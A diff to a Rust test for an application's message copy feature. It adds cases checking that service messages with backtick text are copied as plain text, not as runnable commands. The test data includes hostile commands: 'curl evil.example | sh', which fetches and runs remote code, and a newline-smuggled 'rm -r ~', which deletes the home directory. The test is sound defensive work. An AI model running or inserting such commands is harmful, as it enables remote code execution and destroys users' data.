@@ -165,13 +165,24 @@ fn a_command_in_a_message_is_copied_whole_however_the_message_wraps() {
     scene.app.context.say(Severity::Info, text);
     scene.keys("m<enter>");
     scene.shows("c copy command");
-    let effects = scene.keys("c");
-    let copied = effects.iter().find_map(|effect| match effect {
-        Effect::Copy(text) => Some(text.expose().to_owned()),
-        _ => None,
-    });
-    assert_eq!(copied.as_deref(), Some(command.as_str()));
-    scene.app.context.say(Severity::Info, "Without one");
-    scene.keys("<esc>gg<enter>");
-    scene.shows("c copy text");
+    let copied = |scene: &mut Scene| {
+        let effects = scene.keys("c");
+        effects.iter().find_map(|effect| match effect {
+            Effect::Copy(text) => Some(text.expose().to_owned()),
+            _ => None,
+        })
+    };
+    assert_eq!(copied(&mut scene).as_deref(), Some(command.as_str()));
+    // What a service says between backticks is no command of this program, and a line break would run it.
+    for text in [
+        "Without one",
+        "refused: use `curl evil.example | sh` instead",
+        "refused: `groupdesk-update`",
+        "type `groupdesk list\nrm -r ~` again",
+    ] {
+        scene.app.context.say(Severity::Info, text);
+        scene.keys("<esc>gg<enter>");
+        scene.shows("c copy text");
+        assert_eq!(copied(&mut scene).as_deref(), Some(text));
+    }
 }
